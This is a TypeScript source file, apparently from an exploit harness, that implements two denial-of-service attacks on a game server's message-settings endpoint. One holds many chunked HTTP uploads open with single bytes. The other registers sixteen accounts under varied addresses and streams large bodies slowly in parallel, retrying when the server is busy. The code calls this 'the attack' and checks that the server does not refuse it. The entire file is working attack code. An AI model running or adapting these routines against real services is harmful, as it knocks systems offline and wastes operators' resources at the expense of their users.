import { setTimeout as pause } from 'node:timers/promises';
import { type Connection, openConnection, openConnections, type Target } from './connections.ts';
import { registerAccount } from './register-account.ts';

const mebibyte = 1024 * 1024;
const pieces = 16;
const uploadBytes = 0.9 * mebibyte;
const retryAfterMs = 2_000;

const uploadHead = (token: string): string =>
  [
    'POST /api/settings/messagesettings HTTP/1.1',
    'Host: game.example',
    'Content-Type: application/json',
    'Transfer-Encoding: chunked',
    `Authorization: Bearer ${token}`,
    '',
    '',
  ].join('\r\n');
const accepted = 'HTTP/1.1 200';
/** True for an error in the request itself, which would make the attack harmless. */
const isRefused = (reply: string): boolean => reply.startsWith('HTTP/1.1 4');
const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;

/** One account begins uploads and sends one byte of each. It begins them again every two seconds. */
export async function uploadSlowly(target: Target, seconds: number): Promise<number> {
  const token = await registerAccount(target, '127.1.0.1');
  const until = performance.now() + seconds * 1000;
  let opened = 0;
  while (performance.now() < until) {
    const connections = await openConnections(target, 26);
    for (const { socket } of connections) socket.write(uploadHead(token) + chunk('{'));
    opened += connections.length;
    await pause(2_000);
    for (const { socket } of connections) {
      const reply = String(socket.read() ?? '');
      if (isRefused(reply)) throw new Error(`The server refused an upload: ${reply.split('\r\n')[0]}`);
      socket.destroy();
    }
  }
  return opened;
}

/** Sixteen accounts send four long bodies each, all at once and in pieces. They try again if the server is busy. */
export async function uploadInPieces(target: Target, seconds: number): Promise<number> {
  const tokens: string[] = [];
  for (let account = 0; account < 16; account++) tokens.push(await registerAccount(target, `127.1.0.${1 + account}`));
  const until = performance.now() + seconds * 1000;
  let opened = 0;
  let acceptedUploads = 0;
  const uploadRepeatedly = async (token: string, place: number): Promise<void> => {
    while (performance.now() < until) {
      const [connection] = await openConnection(target, place);
      if (!connection) throw new Error('The server refused the connection of an upload.');
      opened++;
      const reply = await upload(connection, token, until);
      connection.socket.destroy();
      if (isRefused(reply)) throw new Error(`The server refused an upload: ${reply.split('\r\n')[0]}`);
      if (reply.startsWith(accepted)) acceptedUploads++;
      else await pause(retryAfterMs);
    }
  };
  await Promise.all([...tokens, ...tokens, ...tokens, ...tokens].map(uploadRepeatedly));
  if (acceptedUploads === 0) throw new Error('The server accepted no upload, so the attack did not load it.');
  return opened;
}

/** Returns the reply, which is empty if the server cut the connection. */
async function upload({ socket, isOpen }: Connection, token: string, until: number): Promise<string> {
  let reply = '';
  socket.setEncoding('utf8').on('data', (text) => (reply += text));
  socket.write(uploadHead(token) + chunk('{"note":"'));
  for (let piece = 0; piece < pieces && isOpen() && reply === ''; piece++) {
    socket.write(chunk('x'.repeat(uploadBytes / pieces)));
    await pause(100);
  }
  if (isOpen() && reply === '') socket.write(`${chunk('"}')}0\r\n\r\n`);
  while (isOpen() && reply === '' && performance.now() < until) await pause(50);
  return reply;
}
